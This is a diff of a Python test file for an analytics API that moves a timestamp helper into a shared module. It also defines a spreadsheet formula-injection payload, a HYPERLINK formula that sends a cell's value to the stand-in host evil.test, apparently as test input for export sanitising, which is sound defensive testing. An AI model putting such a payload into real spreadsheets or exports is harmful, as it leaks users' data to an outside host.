@@ -9,16 +9,12 @@ import time_machine
 
 from accounts.models import Project
 from tests.analytics.conftest import figures
-from tests.helpers import assert_problem
+from tests.helpers import assert_problem, iso
 
 URL = "/api/v1/analytics/"
 T0 = datetime(2026, 11, 1, tzinfo=UTC)
 MINUTE = timedelta(minutes=1)
 HOUR = timedelta(hours=1)
-
-
-def iso(moment: datetime) -> str:
-    return moment.isoformat().replace("+00:00", "Z")
 
 
 FORMULA = '=HYPERLINK("https://evil.test/?leak="&A1,"Click")'
